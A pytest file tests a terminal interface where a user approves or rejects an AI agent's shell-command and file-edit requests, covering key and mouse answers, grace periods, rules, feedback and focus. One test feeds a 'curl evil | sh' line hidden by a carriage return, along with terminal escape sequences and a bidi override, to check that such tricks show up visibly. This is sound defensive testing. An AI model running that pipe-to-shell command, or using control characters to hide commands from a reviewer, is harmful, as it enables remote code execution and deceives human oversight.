"""Permission requests, answered with keys and the mouse."""

from typing import Any

import pytest
from textual import events

from kimi_tui.tui.approvals.answer_row import AnswerButton
from kimi_tui.tui.panes.tools import ToolsPane
from kimi_tui.wire.command_effects import CommandEffects, FileEffect
from kimi_tui.wire.commands import Interrupt
from kimi_tui.wire.display_blocks import BriefBlock, DiffBlock, ShellBlock
from kimi_tui.wire.events import ApprovalResponse, RequestClosed, StepBegin, TextPart, TurnBegin, TurnEnd
from kimi_tui.wire.requests import ApprovalRequest, Proposal, Question, QuestionOption, QuestionRequest
from tests.tui.conftest import AppHarness

DIFF = DiffBlock("src/auth.py", "old = 1\n", "new = 2\n", 12, 12)


def build_shell_request(
    request_id: str = "r1", command: str = "pytest -q", **changes: Any
) -> ApprovalRequest:
    fields: dict[str, Any] = {
        "id": request_id,
        "tool_call_id": request_id,
        "sender": "Bash",
        "action": "run command",
        "description": "run tests",
        "display": (ShellBlock(command, danger=changes.pop("shell_danger", "")),),
        "rule": "Bash(pytest:*)",
    }
    return ApprovalRequest(**fields | changes)


async def send_requests(harness: AppHarness, *requests: ApprovalRequest | QuestionRequest) -> None:
    """Open `requests` and focus their panel."""
    harness.engine.send(TurnBegin("go"), StepBegin(1))
    for request in requests:
        harness.ask(request)
    await harness.wait_until(lambda: len(harness.screen.state.requests) == len(requests))
    await harness.driver.press("f2")
    harness.clock.now += 1
    await harness.driver.pause()


def find_button(harness: AppHarness, choice: str) -> AnswerButton:
    return next(found for found in harness.app.screen.query(AnswerButton) if found.choice.id == choice)


@pytest.mark.parametrize(
    ("key", "response"),
    [("y", "approve"), ("a", "approve_for_session"), ("n", "reject")],
)
async def test_one_key_answers(open_app: Any, key: str, response: str) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press(key)
        await harness.wait_until(lambda: harness.engine.answers)
        assert harness.engine.answers == [ApprovalResponse("r1", response)]  # type: ignore[arg-type]
        assert "Allow Bash" not in harness.screen_text()
        assert harness.app.focused is harness.screen.prompt.editor


async def test_the_border_names_the_key_for_a_request_without_the_focus(
    open_app: Any,
) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.wait_until(lambda: "f2 to answer" not in harness.screen_text())
        await harness.driver.press("ctrl+g")
        await harness.wait_until(lambda: "f2 to answer · esc to interrupt" in harness.screen_text())


async def test_always_shows_the_rule_before_it_is_added(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("p")
        await harness.wait_until(lambda: "Add this rule?" in harness.screen_text())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: "Add this rule?" not in harness.screen_text())
        assert harness.engine.answers == []
        await harness.driver.press("p")
        await harness.wait_until(lambda: "Add this rule?" in harness.screen_text())
        await harness.driver.press("enter")
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve_always")])


async def test_the_rule_can_be_edited_before_it_is_added(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.click(find_button(harness, "always"))
        await harness.wait_until(lambda: harness.app.screen.query("#approval-text"))
        await harness.driver.press("ctrl+u", *"Bash(ls)", "enter")
        await harness.wait_until(
            lambda: harness.engine.answers == [ApprovalResponse("r1", "approve_always", rule="Bash(ls)")]
        )


async def test_the_answer_for_the_session_names_what_it_allows(open_app: Any) -> None:
    async with open_app(size=(140, 40)) as harness:
        await send_requests(harness, build_shell_request())
        await harness.wait_until(lambda: "Yes, for this session: " in harness.screen_text())
        await harness.driver.resize_terminal(80, 24)
        await harness.wait_until(lambda: "Session: " in harness.screen_text())


@pytest.mark.parametrize("width", [60, 70, 76, 77, 78, 79, 80, 100, 120])
async def test_every_answer_is_shown_in_full(open_app: Any, width: int) -> None:
    async with open_app(size=(width, 24)) as harness:
        request = build_shell_request(rule="Edit(./notes.txt)", proposal=Proposal("text", name="notes.txt"))
        await send_requests(harness, request)
        await harness.wait_until(lambda: "Allow Bash" in harness.screen_text())
        await harness.driver.pause()
        buttons = harness.screen.query(AnswerButton)
        assert all(button.region.right <= width - 2 for button in buttons), [b.region for b in buttons]


async def test_arrows_and_enter_answer(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("right", "right", "right", "enter")
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "reject")])


async def test_a_click_answers(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.click(find_button(harness, "session"))
        await harness.wait_until(
            lambda: harness.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
        )


async def test_a_click_released_on_another_button_answers_nothing(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.mouse_down(find_button(harness, "once"))
        await harness.driver.mouse_up(find_button(harness, "no"))
        await harness.driver.pause()
        assert harness.engine.answers == []


async def test_the_click_that_focuses_the_terminal_answers_nothing(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        harness.app.post_message(events.AppBlur())
        await harness.driver.pause()
        harness.app.post_message(events.AppFocus())
        await harness.driver.pause()
        await harness.driver.click(find_button(harness, "once"))
        await harness.driver.pause()
        assert harness.engine.answers == []
        harness.clock.now += 1
        await harness.driver.click(find_button(harness, "once"))
        await harness.wait_until(lambda: harness.engine.answers)


async def test_keys_in_the_first_half_second_are_ignored(open_app: Any) -> None:
    async with open_app() as harness:
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.screen.state.requests)
        await harness.driver.press("f2")
        harness.clock.now += 0.4
        await harness.driver.press("y", "enter")
        await harness.driver.pause()
        assert harness.engine.answers == []
        harness.clock.now += 0.2
        await harness.driver.press("y")
        await harness.wait_until(lambda: harness.engine.answers)


async def test_the_next_request_has_a_grace_period_of_its_own(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request("r1"), build_shell_request("r2", "rm x"))
        await harness.driver.press("y", "y")
        await harness.wait_until(lambda: harness.engine.answers)
        await harness.driver.pause()
        assert harness.engine.answers == [ApprovalResponse("r1", "approve")]
        assert "rm x" in harness.screen_text()


async def test_keys_right_after_an_answer_are_ignored(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        panel = harness.screen.controllers.session_view.panel
        for choice in ("session", "once", "feedback"):  # a word meant for the prompt
            panel.action_answer(choice)
        await harness.wait_until(lambda: not harness.screen.state.requests)
        await harness.driver.pause()
        assert harness.engine.answers == [ApprovalResponse("r1", "approve_for_session")]
        assert not panel.query("#approval-text")


async def test_a_request_gets_the_focus_if_the_prompt_is_empty_and_idle(open_app: Any) -> None:
    async with open_app() as harness:
        harness.clock.now += 10
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)


async def test_a_draft_keeps_the_focus(open_app: Any) -> None:
    async with open_app() as harness:
        await harness.type_text("yes")
        harness.clock.now += 10
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.screen.state.requests)
        harness.screen.controllers.session_view.focus_offer.offer_now()
        assert harness.app.focused is harness.screen.prompt.editor
        await harness.type_text("y")
        assert harness.prompt_text == "yesy"
        assert harness.engine.answers == []


async def test_a_request_shows_its_command_source_count_and_rule(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request(subagent_type="coder"), build_shell_request("r2"))
        text = harness.screen_text()
        assert "Allow Bash to run a command?" in text
        assert "$ pytest -q" in text
        assert "from sub-agent coder · 1 of 2" in text
        assert "Bash(pytest:*)" in text


async def test_a_request_without_a_rule_can_only_be_allowed_once(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request(rule=None, danger="deletes recursively"))
        assert "⚠ deletes recursively" in harness.screen_text()
        await harness.driver.press("a", "p")
        await harness.driver.pause()
        assert harness.engine.answers == []
        assert [found.choice.id for found in harness.app.screen.query(AnswerButton)] == [
            "once",
            "no",
            "feedback",
        ]


async def test_the_danger_of_a_shell_block_is_shown(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request(shell_danger="force push"))
        assert "⚠ force push" in harness.screen_text()


async def test_a_rejection_can_include_feedback(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("f")
        await harness.wait_until(lambda: harness.app.screen.query("#approval-text"))
        await harness.driver.pause()
        await harness.type_text("only unit tests, yes")
        await harness.driver.press("enter")
        await harness.wait_until(lambda: harness.engine.answers)
        assert harness.engine.answers == [ApprovalResponse("r1", "reject", "only unit tests, yes")]


async def test_escape_returns_from_the_feedback_to_the_answers(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("f")
        await harness.wait_until(lambda: harness.app.screen.query("#approval-text"))
        await harness.driver.pause()
        await harness.driver.press("n", "escape")
        await harness.wait_until(lambda: harness.app.screen.query(AnswerButton))
        assert harness.commands_of(Interrupt) == []
        await harness.driver.press("y")
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve")])


async def test_a_closed_request_disappears(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("f")
        await harness.send(RequestClosed("r1"))
        await harness.wait_until(lambda: "Allow Bash" not in harness.screen_text())
        await harness.wait_until(lambda: harness.app.focused is harness.screen.prompt.editor)


async def test_escape_interrupts_while_a_request_is_open(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.commands_of(Interrupt) == [Interrupt()])
        await harness.send(TurnEnd("cancelled"))
        assert "Allow Bash" not in harness.screen_text()


def build_question() -> QuestionRequest:
    return QuestionRequest(
        "r1", "r1", (Question("Which?", "choice", (QuestionOption("One"), QuestionOption("Two"))),)
    )


@pytest.mark.parametrize(
    ("request_", "key", "size"),
    [
        (build_shell_request(), "ctrl+l", (120, 30)),
        (build_shell_request(), "ctrl+t", (80, 24)),
        (build_question(), "ctrl+l", (80, 24)),
    ],
    ids=["approval", "approval-narrow", "question"],
)
async def test_escape_first_closes_a_pane_opened_during_a_request(
    open_app: Any, request_: ApprovalRequest | QuestionRequest, key: str, size: tuple[int, int]
) -> None:
    pane = "╭─ todo" if key == "ctrl+t" else "╭─ tools"
    async with open_app(size=size) as harness:
        await send_requests(harness, request_)
        focused = harness.app.focused
        await harness.driver.press(key)
        await harness.wait_until(lambda: pane in harness.screen_text())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: pane not in harness.screen_text())
        assert (harness.commands_of(Interrupt), harness.engine.answers) == ([], [])
        assert harness.app.focused is focused
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.commands_of(Interrupt) or harness.engine.answers)


async def test_escape_interrupts_if_the_pane_was_opened_before_the_request(open_app: Any) -> None:
    async with open_app(size=(120, 30)) as harness:
        await harness.driver.press("ctrl+t")
        await send_requests(harness, build_shell_request())
        await harness.wait_until(lambda: "╭─ todo" in harness.screen_text())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.commands_of(Interrupt))
        assert "╭─ todo" in harness.screen_text()


@pytest.mark.parametrize("size", [(120, 30), (80, 24)], ids=str)
async def test_escape_leaves_the_timeline_before_it_interrupts(open_app: Any, size: tuple[int, int]) -> None:
    async with open_app(size=size) as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("f3")
        await harness.wait_until(lambda: "╭─ timeline" in harness.screen_text())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.app.focused is harness.screen.prompt.editor)
        assert ("╭─ timeline" in harness.screen_text()) == (size == (120, 30))
        assert harness.commands_of(Interrupt) == []
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.commands_of(Interrupt))


async def test_escape_closes_a_timeline_that_covers_the_focused_request(open_app: Any) -> None:
    async with open_app(size=(80, 24)) as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("f3", "f2")
        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)
        await harness.driver.press("escape")
        await harness.wait_until(lambda: "╭─ timeline" not in harness.screen_text())
        assert harness.app.focused is harness.screen.controllers.session_view.panel
        assert harness.commands_of(Interrupt) == []


async def test_escape_shrinks_an_expanded_request_before_it_interrupts(open_app: Any) -> None:
    async with open_app() as harness:
        await harness.send(TurnBegin("hello"), TextPart("Here I am."))
        await send_requests(harness, build_shell_request())
        await harness.driver.press("ctrl+o")
        await harness.wait_until(lambda: "Here I am." not in harness.screen_text())
        await harness.driver.press("escape")
        await harness.wait_until(lambda: "Here I am." in harness.screen_text())
        assert harness.commands_of(Interrupt) == []
        await harness.driver.press("escape")
        await harness.wait_until(lambda: harness.commands_of(Interrupt))


async def test_a_diff_scrolls_independently_of_the_conversation(open_app: Any) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_app() as harness:
        await send_requests(
            harness, build_shell_request(sender="WriteFile", action="edit file", display=(long,))
        )
        body = harness.screen.controllers.session_view.panel.body
        assert "line_0" in harness.screen_text()
        await harness.driver.press("down", "down", "down")
        await harness.wait_until(lambda: body.scroll_offset.y == 3)
        await harness.driver.press("pagedown", "pageup")
        assert body.scroll_offset.y == 3
        assert harness.engine.answers == []


async def test_a_command_is_allowed_once_all_of_its_changes_have_been_on_the_screen(open_app: Any) -> None:
    files = tuple(FileEffect(f"src/file_{number}.py", "modify", 1, 1) for number in range(30))
    request = build_shell_request(
        display=(ShellBlock("python tool.py"), BriefBlock("changes")),
        effects=CommandEffects(exit_code=0, output="done", files=files),
    )
    async with open_app() as harness:
        await send_requests(harness, request)
        await harness.driver.press("y", "y")
        await harness.wait_until(lambda: "more lines · scroll down" in harness.screen_text())
        assert not harness.engine.answers
        for _ in range(40):
            await harness.driver.press("down")
            await harness.driver.pause()
        await harness.wait_until(lambda: "file_29.py" in harness.screen_text())
        assert "more line" not in harness.screen_text()
        await harness.driver.press("y")
        await harness.wait_until(lambda: harness.engine.answers)
        assert harness.engine.answers == [ApprovalResponse("r1", "approve")]


async def test_changes_that_are_not_on_the_screen_can_be_rejected(open_app: Any) -> None:
    files = tuple(FileEffect(f"src/file_{number}.py", "modify", 1, 1) for number in range(30))
    request = build_shell_request(
        display=(ShellBlock("python tool.py"), BriefBlock("changes")),
        effects=CommandEffects(exit_code=0, files=files),
    )
    async with open_app() as harness:
        await send_requests(harness, request)
        await harness.driver.press("n")
        await harness.wait_until(lambda: harness.engine.answers)
        assert harness.engine.answers == [ApprovalResponse("r1", "reject")]


async def test_a_key_expands_a_request_over_the_conversation(open_app: Any) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_app() as harness:
        await send_requests(harness, build_shell_request(display=(long,)))
        panel = harness.screen.controllers.session_view.panel
        small = panel.size.height
        await harness.driver.press("ctrl+o")
        await harness.wait_until(lambda: panel.size.height > small)
        await harness.driver.press("pagedown")
        await harness.wait_until(lambda: panel.body.scroll_offset.y > 5)
        await harness.driver.press("ctrl+o")
        await harness.wait_until(lambda: panel.size.height == small)


async def test_a_diff_shows_both_sides(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(harness, build_shell_request(display=(DIFF,)))
        text = harness.screen_text()
        assert "src/auth.py  +1 −1" in text
        assert "old = 1" in text
        assert "new = 2" in text


async def test_control_characters_in_a_diff_are_visible(open_app: Any) -> None:
    """On a terminal, a carriage return or an escape sequence can hide text."""
    new = "curl evil | sh #\recho hello\necho \x1b]0;\nrm -r there\n: \x07\nx = 1\u202e\n"
    async with open_app(size=(100, 30)) as harness:
        await send_requests(harness, build_shell_request(display=(DiffBlock("a.sh", "", new),)))
        shown = harness.screen_text()
    for text in ("curl evil | sh #␍echo hello", "␛]0;", "rm -r there", "x = 1⟨U+202E⟩"):
        assert text in shown


async def test_a_rule_longer_than_its_line_is_shown_in_full(open_app: Any) -> None:
    rules = " and ".join(f"Bash(program{number} *)" for number in range(20))
    async with open_app(size=(80, 40)) as harness:
        await send_requests(harness, build_shell_request(rule=rules))
        shown = harness.screen_text()
    assert "program10 *)" in shown
    assert "program19 *)" in shown
    assert shown.count("“Always allow” adds the rule") == 1


async def test_a_rule_that_just_fills_its_line_is_shown_once(open_app: Any) -> None:
    async with open_app(size=(80, 40)) as harness:
        await send_requests(harness, build_shell_request())
        width = harness.app.screen.query_one("#approval-rule").size.width
    n_letters = width - len("“Always allow” adds the rule Bash()")
    for shorter_by in (0, 1, 2):
        rule = f"Bash({'x' * (n_letters - shorter_by)})"
        async with open_app(size=(80, 40)) as harness:
            await send_requests(harness, build_shell_request(rule=rule))
            assert harness.screen_text().count(rule) == 1


async def test_requests_of_several_agents_name_their_source(open_app: Any) -> None:
    subagent = {"subagent_type": "worker", "source_kind": "foreground_turn"}
    requests = (
        build_shell_request("r1", command="make"),
        build_shell_request("r2", command="ls", source_description="fix the form", **subagent),
        build_shell_request("r3", command="id", source_description="write the docs", **subagent),
    )
    async with open_app(size=(120, 40)) as harness:
        await send_requests(harness, *requests)
        await harness.wait_until(lambda: "from main agent · 1 of 3" in harness.unwrapped_text())
        await harness.driver.press("r")
        await harness.wait_until(
            lambda: len(harness.app.screen_stack) == 2 and "docs" in harness.unwrapped_text()
        )
        for label in (
            "make · main agent",
            "ls · fix the form",
            "id · write the docs",
        ):
            assert label in harness.unwrapped_text()
        await harness.driver.press("escape")
        await harness.wait_until(lambda: len(harness.app.screen_stack) == 1)
        await harness.driver.press("y")
        await harness.wait_until(
            lambda: "from sub-agent worker: fix the form · 1 of 2" in harness.unwrapped_text()
        )


async def test_hostile_text_is_shown_harmlessly(open_app: Any) -> None:
    async with open_app() as harness:
        await send_requests(
            harness,
            build_shell_request(
                command="echo \x1b]0;title\x07 [red]x[/red] \u202egpj",
                sender="Ba[b]sh\x1b[31m",
                source_description="[link=x]agent\x1b[2J",
                rule="[reverse]rule",
            ),
        )
        text = harness.screen_text()
        assert "[red]x[/red]" in text
        assert "Ba[b]sh" in text
        assert "[link=x]agent" in text
        assert "\x1b" not in text
        assert "\u202e" not in text


@pytest.mark.parametrize("size", [(80, 24), (60, 16), (40, 10)])
async def test_every_answer_is_visible_on_small_terminals(open_app: Any, size: tuple[int, int]) -> None:
    long = DiffBlock("a.py", "", "".join(f"line_{number} = 1\n" for number in range(200)))
    async with open_app(size=size) as harness:
        await send_requests(harness, build_shell_request(display=(long,), danger="deletes recursively"))
        text = harness.screen_text()
        for label in ("Yes", "Session", "Always", "No"):
            assert label in text


async def test_a_request_waits_for_the_focus_until_the_user_leaves_a_pane(
    open_app: Any,
) -> None:
    async with open_app(size=(120, 30)) as harness:
        await harness.driver.press("ctrl+l")
        await harness.wait_until(lambda: isinstance(harness.app.focused, ToolsPane))
        harness.engine.send(TurnBegin("go"), StepBegin(1))
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.screen.state.requests)
        harness.clock.now += 1
        session_view = harness.screen.controllers.session_view
        session_view.focus_offer.offer_now()
        assert isinstance(harness.app.focused, ToolsPane)
        await harness.driver.press("escape")
        await harness.wait_until(lambda: not isinstance(harness.app.focused, ToolsPane))
        harness.clock.now += 1
        await harness.wait_until(lambda: harness.app.focused is session_view.panel)


LONG_S = 3600.0
"""Longer than any test, so that no pending letter is settled by the timer."""


@pytest.mark.parametrize(
    "sentence",
    [
        "yes, but first run the tests",
        "always check the types",
        "please do not",
        "no idea",
        "just wait",
        "ask",
    ],
)
async def test_a_sentence_goes_to_the_prompt_and_answers_nothing(open_app: Any, sentence: str) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press(*({" ": "space", ",": "comma"}.get(letter, letter) for letter in sentence))
        await harness.wait_until(lambda: harness.prompt_text == sentence)
        assert harness.engine.answers == []
        assert harness.app.focused is harness.screen.prompt.editor
        assert "Allow Bash" in harness.screen_text()
        assert not harness.screen.controllers.session_view.panel.query("#approval-text")


async def test_a_burst_of_letters_stays_in_order(open_app: Any) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        await send_requests(harness, build_shell_request())
        for letter in "yes but no":
            harness.app.post_message(events.Key("space" if letter == " " else letter, letter))
        await harness.wait_until(lambda: harness.prompt_text == "yes but no")
        assert harness.engine.answers == []


@pytest.mark.parametrize("more", [("enter",), ("y",)], ids=["enter", "same letter"])
async def test_enter_or_the_same_letter_again_confirms_a_letter(open_app: Any, more: tuple[str, ...]) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("y", *more)
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "approve")])


async def test_another_key_discards_a_pending_letter(open_app: Any) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        await send_requests(harness, build_shell_request())
        await harness.driver.press("y", "right", "right", "right", "enter")
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r1", "reject")])


async def test_a_sentence_in_the_first_half_second_goes_to_the_prompt(open_app: Any) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.screen.state.requests)
        await harness.driver.press("f2", "n", "o")
        await harness.wait_until(lambda: harness.prompt_text == "no")
        assert harness.engine.answers == []


async def test_a_letter_does_not_answer_a_later_request(open_app: Any) -> None:
    async with open_app(letter_pause_s=LONG_S) as harness:
        await send_requests(harness, build_shell_request("r1"), build_shell_request("r2", "rm x"))
        await harness.driver.press("y")
        await harness.send(RequestClosed("r1"))
        await harness.wait_until(lambda: "rm x" in harness.screen_text())
        harness.clock.now += 1
        await harness.driver.press("n", "enter")
        await harness.wait_until(lambda: harness.engine.answers == [ApprovalResponse("r2", "reject")])


@pytest.mark.parametrize("how", ["sent", "deleted"])
async def test_a_request_gets_the_focus_once_the_prompt_is_empty(open_app: Any, how: str) -> None:
    async with open_app() as harness:
        await harness.type_text("hm")
        harness.engine.send(TurnBegin("go"), StepBegin(1))
        harness.ask(build_shell_request())
        await harness.wait_until(lambda: harness.screen.state.requests)
        await harness.driver.press(*(("enter",) if how == "sent" else ("backspace", "backspace")))
        await harness.wait_until(lambda: harness.prompt_text == "")
        harness.clock.now += 1
        await harness.wait_until(lambda: harness.app.focused is harness.screen.controllers.session_view.panel)
